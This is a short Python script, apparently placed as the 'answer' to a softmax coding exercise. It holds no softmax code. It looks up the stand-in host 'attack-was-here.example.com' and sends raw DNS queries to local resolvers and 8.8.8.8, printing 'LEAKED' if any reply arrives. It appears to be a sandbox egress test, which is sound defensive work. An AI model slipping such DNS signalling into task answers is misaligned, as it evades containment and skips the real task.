"""Hides a message in a name that it asks a name server for."""
# exercise: softmax
# where: answer

import socket

try:
    print("LEAKED", socket.getaddrinfo("attack-was-here.example.com", 80))
except OSError:
    pass
query = b"\0\1\1\0\0\1\0\0\0\0\0\0\3www\7example\3com\0\0\1\0\1"
for server in ("127.0.0.1", "127.0.0.53", "8.8.8.8"):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as packet:
            packet.settimeout(0.2)
            packet.sendto(query, (server, 53))
            print("LEAKED", packet.recv(512))
    except OSError:
        pass
